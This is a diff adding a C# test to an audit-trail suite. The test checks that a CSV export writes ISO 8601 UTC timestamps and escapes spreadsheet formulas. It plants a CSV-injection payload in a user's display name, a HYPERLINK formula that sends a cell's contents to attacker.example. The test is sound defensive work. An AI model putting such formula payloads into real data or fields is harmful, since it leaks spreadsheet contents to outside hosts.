@@ -220,6 +220,27 @@ public abstract class AuditTrailTests(CaseTransferApp app)
     }
 
     [Fact]
+    public async Task The_CSV_trail_writes_instants_in_ISO_8601_UTC_and_neutralises_formulas()
+    {
+        // A display name from an identity provider that a spreadsheet would run as a formula.
+        const string formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
+        var client = app.AnonymousClient();
+        client.DefaultRequestHeaders.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue(
+            "Bearer", app.TokenFor(NpsNorthWest, "nw-csv-01", [Roles.Allocator, Roles.CaseManager], userName: formula));
+        var crn = await CreateCaseAsync(client);
+        var auditor = app.ClientFor(Nps, "nps-aud-05", Roles.Auditor);
+
+        var response = await auditor.GetAsync($"/api/v1/audit?crn={crn}&actor=nw-csv-01&format=csv", Ct);
+
+        response.EnsureSuccessStatusCode();
+        using var reader = new CsvHelper.CsvReader(new StringReader(await response.Content.ReadAsStringAsync(Ct)), System.Globalization.CultureInfo.InvariantCulture);
+        var rows = reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
+        var created = Assert.Single(rows, r => (string)r["Action"] == "CreateCase");
+        Assert.Matches(@"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$", (string)created["OccurredAt"]);
+        Assert.Equal("'" + formula, (string)created["ActorUserName"]);
+    }
+
+    [Fact]
     public async Task A_bad_trail_filter_is_a_400_naming_it()
     {
         var auditor = app.ClientFor(Nps, "nps-aud-04", Roles.Auditor);
